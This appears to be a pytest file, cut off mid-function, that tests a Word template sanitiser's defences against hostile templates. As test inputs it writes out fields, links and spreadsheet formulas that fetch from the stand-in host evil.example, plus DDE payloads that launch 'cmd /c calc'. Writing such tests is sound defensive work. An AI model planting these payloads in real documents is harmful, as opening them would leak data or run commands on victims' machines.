"""Hostile templates (they arrive by e-mail): nothing in an output may fetch a file or a URL.

Each case is one a security review found getting through: an external hyperlink's relationship
used as a picture's source, VML pictures naming their own address, fields that read a database
or spell their type with a nested field, a header part under another name, altChunk content,
ActiveX controls and OLE objects, and parts in UTF-16.
"""

from __future__ import annotations

import gzip
import io
import re
import zipfile
from collections.abc import Callable

import pytest
from docx import Document
from docxtpl_support import UNIT_ROWS, paragraphs_template, parts_of, with_parts
from openpyxl import Workbook

from docgen.errors import InputError, UnreadableDocumentError
from docgen.ooxml.embedded import Budget, reach
from docgen.ooxml.package import DEFAULT_LIMITS, read_package
from docgen.ooxml.sanitize import sanitize_template
from docgen.render.fastpath import prepare

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EVIL = "evil.example"
WP = 'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
PIC = 'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
HEADER_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"


def _template(
    body: str = "",
    rels: tuple[tuple[str, str, str, bool], ...] = (),
    parts: dict[str, bytes] | None = None,
    types: str = "",
    settings: str = "",
) -> bytes:
    """A one-paragraph template ({{ 单位名称 }}) with ``body`` after it, more document
    relationships (id, type, target, external), parts, content types and settings."""
    base = paragraphs_template("{{ 单位名称 }}")
    old = parts_of(base)
    document = old["word/document.xml"].decode().replace("<w:sectPr", body + "<w:sectPr", 1)
    added = "".join(
        f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, kind, target, external in rels
    )
    changes: dict[str, bytes | None] = {
        "word/document.xml": document.encode(),
        "word/_rels/document.xml.rels": old["word/_rels/document.xml.rels"].replace(
            b"</Relationships>", f"{added}</Relationships>".encode()
        ),
        "[Content_Types].xml": old["[Content_Types].xml"].replace(
            b"</Types>", f"{types}</Types>".encode()
        ),
        "word/settings.xml": re.sub(
            rb"(<w:settings[^>]*>)",
            lambda m: m.group(1) + settings.encode(),
            old["word/settings.xml"],
        ),
    }
    changes.update(parts or {})
    return with_parts(base, changes)


def _picture(attribute: str, rid: str) -> str:
    return (
        f'<w:p><w:r><w:drawing><wp:inline {WP}><wp:extent cx="100" cy="100"/>'
        f'<wp:docPr id="9" name="p"/><a:graphic {A}><a:graphicData uri="http://schemas.'
        f'openxmlformats.org/drawingml/2006/picture"><pic:pic {PIC}><pic:nvPicPr><pic:cNvPr id="0" '
        f'name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:{attribute}="{rid}"/>'
        "</pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
        "</w:r></w:p>"
    )


def _field(code: str, shown: str = "旧结果") -> str:
    """A complex field as Word writes it, its code split over two runs."""
    half = len(code) // 2
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code[:half]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code[half:]}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{shown}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _no_evil(parts: dict[str, bytes]) -> None:
    for name, blob in parts.items():
        assert EVIL.encode() not in blob, name


# 1. An external hyperlink's relationship is a hyperlink, never a picture's source.


@pytest.mark.parametrize("attribute", ["link", "embed"])
def test_a_hyperlinks_relationship_used_as_a_picture_is_cut_off(attribute: str) -> None:
    template = _template(
        _picture(attribute, "rIdH"),
        rels=(("rIdH", "hyperlink", f"file:///{EVIL}/secret.png", True),),
    )
    clean = sanitize_template(template, "图.docx")
    assert f'r:{attribute}="rIdH"'.encode() not in clean.parts["word/document.xml"]
    assert b"<a:blip" in clean.parts["word/document.xml"]  # the picture stays, without source
    _no_evil(clean.parts)  # the relationship, used only so, goes too
    assert any("超链接" in n and "外部图片" in n and EVIL in n for n in clean.notes)


@pytest.mark.parametrize(
    "target",
    [
        "document.xml",
        "/word/document.xml",
        "../word/document.xml",
        "Document.xml",
        "document%2Exml",
    ],
)
def test_a_relationship_naming_the_document_itself_is_removed(target: str) -> None:
    """Security review 23: the main part named again as one of its own parts made every output
    one Word refuses, and --combined copied each document's body in whole."""
    template = _template(rels=(("rIdSelf", "customXml", target, False),))
    clean = sanitize_template(template, "自指.docx")
    assert b"rIdSelf" not in clean.parts["word/_rels/document.xml.rels"]
    assert any("指向正文本身的关系" in note for note in clean.notes)


def test_a_hyperlink_stays_when_its_relationship_is_also_misused() -> None:
    body = (
        '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>'
        + _picture("link", "rIdWeb")
        + f'<w:p><w:r><w:drawing><wp:inline {WP}><wp:extent cx="1" cy="1"/><wp:docPr id="3" '
        f'name="q"><a:hlinkClick {A} r:id="rIdWeb"/></wp:docPr></wp:inline></w:drawing></w:r></w:p>'
    )
    template = _template(body, rels=(("rIdWeb", "hyperlink", f"https://www.{EVIL}/", True),))
    clean = sanitize_template(template, "链接.docx")
    document = clean.parts["word/document.xml"]
    assert b'<w:hyperlink r:id="rIdWeb">' in document
    assert b'r:id="rIdWeb"/></wp:docPr>' in document  # a:hlinkClick is a hyperlink too
    assert b'r:link="rIdWeb"' not in document
    assert f"https://www.{EVIL}/".encode() in clean.parts["word/_rels/document.xml.rels"]


def test_vml_pictures_lose_their_own_addresses_and_misused_hyperlinks() -> None:
    body = (
        f'<w:p><w:r><w:pict><v:shape {VML} style="width:10pt;height:10pt">'
        f'<v:imagedata src="http://{EVIL}/vml.png" o:href="\\\\{EVIL}\\share\\href.png"/>'
        "</v:shape></w:pict></w:r></w:p>"
        f'<w:p><w:r><w:pict><v:shape {VML} style="width:10pt;height:10pt">'
        '<v:imagedata r:id="rIdH" o:title=""/></v:shape></w:pict></w:r></w:p>'
    )
    template = _template(body, rels=(("rIdH", "hyperlink", f"http://{EVIL}/h.png", True),))
    clean = sanitize_template(template, "VML.docx")
    _no_evil(clean.parts)
    assert clean.parts["word/document.xml"].count(b"<v:imagedata") == 2
    assert sum(EVIL in note for note in clean.notes) == 3


# 2. Fields: every fetching kind, updateFields, nested field types, parts of any name.

FETCHING = ["DATABASE", "INCLUDEPICTURE", "includetext", "INCLUDE", "LINK", "DDE", "DDEAUTO"]
FETCHING += ["IMPORT", "RD"]


@pytest.mark.parametrize("kind", FETCHING)
def test_every_fetching_field_is_defused_complex_or_simple(kind: str) -> None:
    code = f' {kind} \\d "\\\\\\\\{EVIL}\\\\share\\\\db.mdb" \\s "select * from t" '
    simple = f'<w:p><w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}"><w:r><w:t>简</w:t>'
    template = _template(f"<w:p>{_field(code)}</w:p>{simple}</w:r></w:fldSimple></w:p>")
    clean = sanitize_template(template, "域.docx")
    document = clean.parts["word/document.xml"]
    _no_evil(clean.parts)
    assert kind.encode() not in document and b"fldSimple" not in document
    assert "旧结果".encode() in document and "简".encode() in document  # results stay
    assert sum("已停用取外部内容的域" in note for note in clean.notes) == 2


def test_a_defused_field_is_not_updated_on_opening() -> None:
    code = f' INCLUDEPICTURE "http://{EVIL}/a.png" '
    dirty = _field(code).replace('fldCharType="begin"/>', 'fldCharType="begin" w:dirty="true"/>')
    clean = sanitize_template(_template(f"<w:p>{dirty}</w:p>"), "域.docx")
    # Updated on opening, the blank code would blank the result it shows too.
    assert b"dirty" not in clean.parts["word/document.xml"]
    assert "旧结果".encode() in clean.parts["word/document.xml"]


def test_a_macrobutton_keeps_its_text_and_runs_nothing() -> None:
    simple = (
        '<w:p><w:fldSimple w:instr=" MACROBUTTON FileExit [单击此处输入单位] ">'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    )
    body = f"<w:p>{_field(' MACROBUTTON ToolsMacro [单击此处输入日期] ', '')}</w:p>{simple}"
    clean = sanitize_template(_template(body), "按钮.docx")
    document = clean.parts["word/document.xml"].decode()
    assert "FileExit" not in document and "ToolsMacro" not in document
    assert "MACROBUTTON NoMacro [单击此处输入日期]" in document
    assert 'w:instr=" MACROBUTTON NoMacro [单击此处输入单位] "' in document
    assert sum("按钮域" in note for note in clean.notes) == 2
    again = sanitize_template(clean.data, "按钮.docx")  # NoMacro is left as it is
    assert not [note for note in again.notes if "按钮域" in note]


@pytest.mark.parametrize(
    "code",
    [' "MACROBUTTON" FileOpen 点击 ', ' MACROBUTTON"FileOpen"点击 ', " macrobutton fileopen 点击 "],
)
def test_a_macrobutton_written_otherwise_runs_nothing_too(code: str) -> None:
    clean = sanitize_template(_template(f"<w:p>{_field(code, '')}</w:p>"), "按钮.docx")
    document = clean.parts["word/document.xml"].decode()
    assert "FileOpen" not in document and "fileopen" not in document
    assert "NoMacro" in document and "点击" in document


def test_a_macrobutton_with_a_field_in_its_code_is_refused_unless_it_runs_nothing() -> None:
    def button(start: str) -> str:
        return (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{start}</w:instrText></w:r>'
            + _field(' QUOTE "Open" ')
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )

    with pytest.raises(InputError, match="按钮域") as caught:
        sanitize_template(_template(button(" MACROBUTTON File")), "按钮.docx")
    assert caught.value.location is not None and caught.value.location.paragraph == 2
    sanitize_template(_template(button(" MACROBUTTON NoMacro ")), "按钮.docx")


def test_a_macrobutton_spelt_by_a_nested_field_is_refused() -> None:
    body = NESTED_QUOTE.format(start="", spelled="MACRO", rest="BUTTON")
    with pytest.raises(InputError, match="嵌套的 QUOTE 域拼出"):
        sanitize_template(_template(body), "嵌套.docx")


@pytest.mark.parametrize(
    "code",
    [
        f' \\INCLUDEPICTURE "http://{EVIL}/a.png" \\d ',
        f' ""INCLUDEPICTURE "http://{EVIL}/a.png" ',
        ' \\DDEAUTO "cmd" "/c calc.exe" ',
        f' 1 "http://{EVIL}/" ',
    ],
    ids=["backslash", "empty-quotes", "dde-backslash", "unreadable-type"],
)
def test_a_field_type_behind_a_backslash_or_quotes_is_read_as_word_reads_it(code: str) -> None:
    """Word and LibreOffice skip a leading \\ or "" before a field's type; one that cannot be
    read at all is taken for a fetching one."""
    clean = sanitize_template(_template(f"<w:p>{_field(code)}</w:p>"), "域.docx")
    _no_evil(clean.parts)
    assert b"DDEAUTO" not in clean.parts["word/document.xml"]
    assert any("已停用取外部内容的域" in note for note in clean.notes)


def test_a_field_type_written_by_a_tag_behind_a_backslash_is_refused() -> None:
    with pytest.raises(InputError, match="域名由模板标签写出"):
        field = _field(" \\{{ 值 }} ")
        sanitize_template(_template(f"<w:p>{field}</w:p>"), "域.docx")


def test_comments_and_processing_instructions_go_from_the_parts_docxtpl_renders() -> None:
    """Word writes neither there; their text is markup no check reads, which docxtpl's
    listing copies could open (a pPr copied up to a "<!--" hidden in it)."""
    body = (
        "<w:p><!-- <w:r><w:t>藏</w:t></w:r> --><?x <w:altChunk/> ?><w:r><w:t>正文</w:t></w:r></w:p>"
    )
    document = sanitize_template(_template(body), "注释.docx").parts["word/document.xml"]
    assert "藏".encode() not in document and b"altChunk" not in document
    assert "正文".encode() in document


def test_a_hyperlink_field_stays() -> None:
    code = f' HYPERLINK "https://www.{EVIL}/" '
    clean = sanitize_template(_template(f"<w:p>{_field(code, '网站')}</w:p>"), "域.docx")
    assert b"HYPER" in clean.parts["word/document.xml"] and not clean.notes


def test_word_is_not_asked_to_update_fields_on_opening() -> None:
    template = _template(settings='<w:updateFields w:val="true"/>')
    clean = sanitize_template(template, "更新.docx")
    assert b"updateFields" not in clean.parts["word/settings.xml"]
    assert any("更新域" in note for note in clean.notes)


NESTED_QUOTE = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{start}'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> QUOTE "{spelled}" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{spelled}</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    f'<w:r><w:instrText xml:space="preserve">{{rest}} "http://{EVIL}/n.png" \\d </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>图</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


@pytest.mark.parametrize(
    ("start", "spelled", "rest"),
    [
        ("", "INCLUDEPICTURE", ""),
        ('<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>', "PICTURE", ""),
        ("", "INCLUDE", "PICTURE"),
    ],
)
def test_a_field_whose_type_a_nested_field_spells_is_refused_with_its_paragraph(
    start: str, spelled: str, rest: str
) -> None:
    body = NESTED_QUOTE.format(start=start, spelled=spelled, rest=rest)
    with pytest.raises(InputError, match="嵌套的 QUOTE 域拼出") as caught:
        sanitize_template(_template(body), "嵌套.docx")
    assert caught.value.location is not None and caught.value.location.paragraph == 2


def test_a_nested_field_after_the_fields_type_is_read_as_before() -> None:
    # IF over a merge field: the type is written out, the nested field is its operand.
    code_start = '<w:r><w:instrText xml:space="preserve"> IF </w:instrText></w:r>'
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + code_start
        + _field(" MERGEFIELD 性别 ")
        + '<w:r><w:instrText xml:space="preserve"> = "男" "先生" "女士" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>先生</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    clean = sanitize_template(_template(body), "称呼.docx")
    assert "性别" in clean.merge_fields
    assert "word_compare" in clean.parts["word/document.xml"].decode()


def _with_top_header(inner: str, name: str = "top.xml", kind: str = HEADER_CT) -> bytes:
    """The template with a header part named word/top.xml (not header1.xml), or ``name`` of
    content type ``kind``, holding ``inner``."""
    header = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="http://schemas.'
        'openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships">{inner}</w:hdr>'
    )
    template = _template(
        rels=(("rIdTop", "header", name, False),),
        parts={f"word/{name}": header.encode()},
        types=f'<Override PartName="/word/{name}" ContentType="{kind}"/>',
    )
    document = re.sub(
        rb"(<w:sectPr[^>]*>)",
        lambda m: m.group(1) + b'<w:headerReference w:type="default" r:id="rIdTop"/>',
        parts_of(template)["word/document.xml"],
    )
    return with_parts(template, {"word/document.xml": document})


def test_fields_in_a_header_of_any_name_are_defused_and_merge_fields_read() -> None:
    inner = (
        f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/h.png&quot; \\d ">'
        "<w:r><w:t>h</w:t></w:r></w:fldSimple></w:p>"
        '<w:p><w:fldSimple w:instr=" MERGEFIELD 联系人 "><w:r><w:t>«联系人»</w:t></w:r>'
        "</w:fldSimple></w:p>"
    )
    template = _with_top_header(inner)
    clean = sanitize_template(template, "页眉.docx")
    assert "联系人" in clean.merge_fields
    assert any("word/top.xml" in note for note in clean.notes)
    output = parts_of(prepare(template, "页眉.docx").render(UNIT_ROWS[0]))
    _no_evil(output)
    assert "王芳".encode() in output["word/top.xml"]


def test_a_header_of_any_name_and_type_is_cleaned() -> None:
    """docxtpl, Word and LibreOffice find a header by its relationship: word/top.bin typed
    application/octet-stream is a header all the same."""
    inner = (
        f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/h.png&quot; \\d ">'
        "<w:r><w:t>h</w:t></w:r></w:fldSimple></w:p>"
    )
    template = _with_top_header(inner, "top.bin", "application/octet-stream")
    clean = sanitize_template(template, "页眉.docx")
    assert any("word/top.bin" in note for note in clean.notes)
    _no_evil(parts_of(prepare(template, "页眉.docx").render(UNIT_ROWS[0])))


@pytest.mark.parametrize(
    "body",
    [
        '<w:p><x:r xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/></w:p>',
        '<w:p><w:r><v:p xmlns:v="urn:x" xmlns:w="urn:not-word"/></w:r></w:p>',
    ],
    ids=["word-under-another-prefix", "w-bound-elsewhere"],
)
def test_a_part_that_spells_wordprocessingml_otherwise_than_w_is_refused(body: str) -> None:
    """Tags are checked as text after the sanitiser (render.markup knows "w:fldChar"): the
    same element under another prefix would pass for something else there."""
    with pytest.raises(UnreadableDocumentError, match="命名空间前缀"):
        sanitize_template(_template(body), "前缀.docx")


def test_tracked_changes_in_a_header_of_any_name_are_refused() -> None:
    inner = '<w:p><w:ins w:id="1" w:author="张三"><w:r><w:t>改</w:t></w:r></w:ins></w:p>'
    with pytest.raises(InputError, match="张三"):
        sanitize_template(_with_top_header(inner), "修订.docx")


# 3. altChunk, ActiveX, OLE objects.


def test_alt_chunk_content_is_refused_naming_the_paragraph() -> None:
    html = f'<html><body><img src="http://{EVIL}/a.png"><iframe src="http://{EVIL}/f"></iframe>'
    template = _template(
        '<w:p><w:r><w:t>附件如下</w:t></w:r></w:p><w:altChunk r:id="rIdAlt"/>',
        rels=(("rIdAlt", "aFChunk", "chunk1.html", False),),
        parts={"word/chunk1.html": html.encode()},
        types='<Override PartName="/word/chunk1.html" ContentType="text/html"/>',
    )
    with pytest.raises(InputError, match="altChunk") as caught:
        sanitize_template(template, "块.docx")
    place = caught.value.location
    assert place is not None and place.paragraph == 2 and place.excerpt == "附件如下"
    assert "这一段之后" in caught.value.message


def test_an_unused_alt_chunk_part_is_dropped() -> None:
    template = _template(
        rels=(("rIdAlt", "aFChunk", "chunk1.html", False),),
        parts={"word/chunk1.html": f'<img src="http://{EVIL}/a.png">'.encode()},
        types='<Override PartName="/word/chunk1.html" ContentType="text/html"/>',
    )
    clean = sanitize_template(template, "块.docx")
    _no_evil(clean.parts)
    assert b"chunk1" not in clean.parts["[Content_Types].xml"]


def test_activex_controls_are_refused_like_macros() -> None:
    control = (
        '<?xml version="1.0" encoding="UTF-8"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/'
        'office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>'
    )
    template = _template(
        '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="WebBrowser1"/></w:object></w:r></w:p>',
        rels=(("rIdAx", "control", "activeX/activeX1.xml", False),),
        parts={"word/activeX/activeX1.xml": control.encode()},
        types='<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>',
    )
    with pytest.raises(UnreadableDocumentError, match="ActiveX 控件（WebBrowser1）") as caught:
        sanitize_template(template, "控件.docx")
    assert caught.value.location is not None and caught.value.location.paragraph == 2


OLE = (
    '<w:p><w:r><w:object w:dxaOrig="10" w:dyaOrig="10">{picture}<o:OLEObject {vml} Type="Embed" '
    'ProgID="{prog}" ShapeID="_x0000_i1" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/>'
    "</w:object></w:r></w:p>"
)
PREVIEW = f'<v:shape {VML} id="_x0000_i1" style="width:9pt;height:9pt"><v:imagedata r:id="rIdPrev"/></v:shape>'


def _ole(picture: str, kind: str, target: str, prog: str = "Package") -> bytes:
    return _template(
        OLE.format(picture=picture, vml=VML, prog=prog),
        rels=(
            ("rIdOle", kind, target, False),
            ("rIdPrev", "image", "media/prev.png", False),
        ),
        parts={
            f"word/{target}": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64,
            "word/media/prev.png": b"\x89PNG\r\n\x1a\n",
        },
        types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
        'officedocument.oleObject"/><Default Extension="png" ContentType="image/png"/>',
    )


def test_an_embedded_ole_object_keeps_only_its_picture() -> None:
    clean = sanitize_template(_ole(PREVIEW, "oleObject", "embeddings/oleObject1.bin"), "对象.docx")
    document = clean.parts["word/document.xml"]
    assert b"OLEObject" not in document
    assert b'<v:imagedata r:id="rIdPrev"/>' in document
    assert "word/embeddings/oleObject1.bin" not in clean.parts
    assert b"rIdOle" not in clean.parts["word/_rels/document.xml.rels"]
    assert any("嵌入对象" in note for note in clean.notes)
    prepare(clean.data, "对象.docx").render(UNIT_ROWS[0])  # still a document docxtpl fills


def test_an_ole_object_without_a_picture_goes_whole() -> None:
    clean = sanitize_template(_ole("", "oleObject", "embeddings/oleObject1.bin"), "对象.docx")
    assert b"w:object" not in clean.parts["word/document.xml"]


OFFICE_TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def _with_office_file(inner: bytes, suffix: str = "docx", kind: str = "package") -> bytes:
    """A template embedding the Office file ``inner`` as Word embeds one (a package part), or
    through a relationship of another ``kind``."""
    target = f"embeddings/Object1.{suffix}"
    outer = _ole(PREVIEW, kind, target, "Word.Document.12")
    return with_parts(
        outer,
        {
            f"word/{target}": inner,
            "[Content_Types].xml": parts_of(outer)["[Content_Types].xml"].replace(
                b"</Types>",
                f'<Default Extension="{suffix}" ContentType="{OFFICE_TYPES[suffix]}"/>'
                "</Types>".encode(),
            ),
        },
    )


def _package(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, blob in parts.items():
            archive.writestr(name, blob)
    return buffer.getvalue()


def _word_file(body: str = "", rels: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    """A real Word file (python-docx's blank document) with ``body``, relationships of the
    body and ``parts`` added."""
    docx = Document()
    docx.add_paragraph("附表")
    buffer = io.BytesIO()
    docx.save(buffer)
    old = parts_of(buffer.getvalue())
    old["word/document.xml"] = old["word/document.xml"].replace(
        b"<w:sectPr", body.encode() + b"<w:sectPr", 1
    )
    old["word/_rels/document.xml.rels"] = old["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", rels.encode() + b"</Relationships>"
    )
    return _package({**old, **(parts or {})})


def _excel_file(formula: str, sheet: str | None = None) -> bytes:
    """A real workbook (openpyxl's) with ``formula`` in A1, or with the sheet XML changed."""
    book = Workbook()
    book.active["A1"] = formula
    buffer = io.BytesIO()
    book.save(buffer)
    parts = parts_of(buffer.getvalue())
    if sheet is not None:
        parts["xl/worksheets/sheet1.xml"] = re.sub(
            rb"<sheetData>.*</sheetData>",
            lambda _: sheet.encode(),
            parts["xl/worksheets/sheet1.xml"],
        )
    return _package(parts)


def _field_paragraph(code: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
        f'xml:space="preserve">{code}</w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r></w:p>'
    )


def _rel(kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rIdX" Type="{REL}{kind}" Target="{target}"{mode}/>'


def test_an_ordinary_embedded_document_or_workbook_stays_as_it_was() -> None:
    inner = _word_file(
        _field_paragraph(" PAGE ")
        + _field_paragraph(" DATE \\@ yyyy ")
        + _field_paragraph(' HYPERLINK \\l "附件" ')
        + LINK,
        _rel("hyperlink", "https://www.gov.cn/"),
    )
    clean = sanitize_template(_with_office_file(inner), "对象.docx")
    assert clean.parts["word/embeddings/Object1.docx"] == inner and not clean.notes
    assert b"OLEObject" in clean.parts["word/document.xml"]
    workbook = _excel_file('=ROUND(SUM(B1:B9)/STDEV.S(B1:B9),2)&"元"+SUBTOTAL(109,明细[金额])')
    clean = sanitize_template(_with_office_file(workbook, "xlsx"), "对象.docx")
    assert clean.parts["word/embeddings/Object1.xlsx"] == workbook and not clean.notes


def test_a_charts_own_workbook_stays() -> None:
    """Word keeps a chart's data in an embedded workbook: an ordinary one, kept."""
    from docgen.ooxml.chart import (
        ChartData,
        ChartFont,
        EmbeddedChart,
        chart_xml,
        embed,
        inline_drawing_xml,
        workbook_bytes,
    )

    data = ChartData(("市委办公室", "市信访局"), (("完成率", (0.5, 0.25)),), "0.0%", 1.0)
    xml = chart_xml(data, ChartFont("仿宋_GB2312", "仿宋_GB2312", 14))
    chart = EmbeddedChart(1, "rIdChart1", xml, workbook_bytes(data))
    drawing = inline_drawing_xml("rIdChart1", 1, "完成率", 5_000_000, 3_000_000)
    template = embed(_template(drawing), "图表.docx", [chart])
    clean = sanitize_template(template, "图表.docx")
    assert clean.parts[chart.workbook_part] == chart.workbook and not clean.notes


INCLUDE = _field_paragraph(f' INCLUDEPICTURE "http://{EVIL}/a.png" \\d ')
LINK = '<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>'
STRICT_BODY = '<w:p xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"><s:r/></w:p>'
VML_SOURCE = f'<w:p><w:r><w:pict><v:shape {VML}><v:imagedata src="\\\\{EVIL}\\a.png"/></v:shape></w:pict></w:r></w:p>'


@pytest.mark.parametrize(
    ("inner", "said"),
    [
        (_word_file(INCLUDE), "域（INCLUDEPICTURE）"),
        (_word_file(_field_paragraph(' HYPERLINK "file:///C:/calc.exe" ')), "域（HYPERLINK）"),
        (_word_file(rels=_rel("attachedTemplate", f"\\\\{EVIL}\\t.dotm")), EVIL),
        (
            _word_file(
                f'<w:p><w:r><a:blip {A} r:link="rIdX"/></w:r></w:p>',
                _rel("hyperlink", f"http://{EVIL}/"),
            ),
            "把网址链接用作图片或对象",
        ),
        (_word_file(LINK, _rel("hyperlink", f"file:///{EVIL}/x.exe")), EVIL),
        (_word_file(rels=_rel("aFChunk", "chunk.html", external=False)), "aFChunk"),
        (_word_file(STRICT_BODY), "Strict"),
        (_word_file(VML_SOURCE), f"\\\\{EVIL}"),
        (_word_file(parts={"word/inner.bin": _word_file()}), "嵌有另一个文件"),
        (_word_file(parts={"word/vbaProject.bin": b"\x00VBA"}), "未声明类型"),
        (_word_file(parts={"word/pic.svg": "<svg/>".encode("utf-16")}), "word/pic.svg"),
        (b"PK\x03\x04" + b"\x00" * 60, "无法按 Office 文件读取"),
    ],
    ids=[
        "includepicture-field",
        "program-hyperlink-field",
        "remote-template",
        "web-link-used-as-a-picture",
        "file-link",
        "altchunk",
        "strict-namespace",
        "vml-picture-address",
        "nested-package",
        "undeclared-part",
        "utf16-svg",
        "broken-zip",
    ],
)
def test_an_embedded_word_file_that_is_not_ordinary_goes_with_its_reason(
    inner: bytes, said: str
) -> None:
    clean = sanitize_template(_with_office_file(inner), "对象.docx")
    assert "word/embeddings/Object1.docx" not in clean.parts
    assert b"OLEObject" not in clean.parts["word/document.xml"]
    assert b'<v:imagedata r:id="rIdPrev"/>' in clean.parts["word/document.xml"]  # its picture
    (note,) = [n for n in clean.notes if "嵌入对象" in n]
    assert said in note and "Object1.docx" in note
    prepare(clean.data, "对象.docx").render(UNIT_ROWS[0])


@pytest.mark.parametrize(
    "sheet",
    [
        f'<sheetData><row r="1"><c r="A1"><f>_xlfn.IMAGE("http://{EVIL}/a.png")</f></c></row></sheetData>',
        f'<sheetData><row r="1"><c r="A1"><f>&#87;EBSERVICE("http://{EVIL}/")</f></c></row></sheetData>',
        f'<sheetData><row r="1"><c r="A1"><f><![CDATA[WEBSERVICE("http://{EVIL}/")]]></f></c></row></sheetData>',
        '<sheetData><row r="1"><c r="A1"><f>cmd|\' /c calc\'!A0</f></c></row></sheetData>',
        '<sheetData><row r="1"><c r="A1"><f>\'C:\\x\\[a.xlsx]S\'!A1</f></c></row></sheetData>',
    ],
    ids=["image", "char-reference", "cdata", "dde", "other-file"],
)
def test_an_embedded_workbook_whose_formulas_reach_outside_goes(sheet: str) -> None:
    clean = sanitize_template(_with_office_file(_excel_file("1", sheet), "xlsx"), "对象.docx")
    assert "word/embeddings/Object1.xlsx" not in clean.parts
    assert any("公式" in note for note in clean.notes)


def test_an_embedded_workbook_linking_another_goes_however_its_part_is_declared() -> None:
    parts = parts_of(_excel_file("=1"))
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdL" Type="{REL}externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode(),
    )
    clean = sanitize_template(_with_office_file(_package(parts), "xlsx"), "对象.docx")
    assert "word/embeddings/Object1.xlsx" not in clean.parts
    assert any("externalLink" in note for note in clean.notes)


@pytest.mark.parametrize("kind", ["Package", "image", "oleObject"])
def test_an_embedded_file_is_known_by_its_bytes_whatever_its_relationship_says(
    kind: str,
) -> None:
    inner = _word_file(rels=_rel("image", f"http://{EVIL}/a.png"))
    clean = sanitize_template(_with_office_file(inner, kind=kind), "对象.docx")
    assert "word/embeddings/Object1.docx" not in clean.parts
    _no_evil(clean.parts)


def test_an_embedded_file_named_many_times_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    import docgen.ooxml.sanitize as sanitize

    calls = []
    original = sanitize.reach
    monkeypatch.setattr(sanitize, "reach", lambda *a: calls.append(1) or original(*a))
    template = _with_office_file(_word_file())
    old = parts_of(template)
    rels = old["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b"".join(
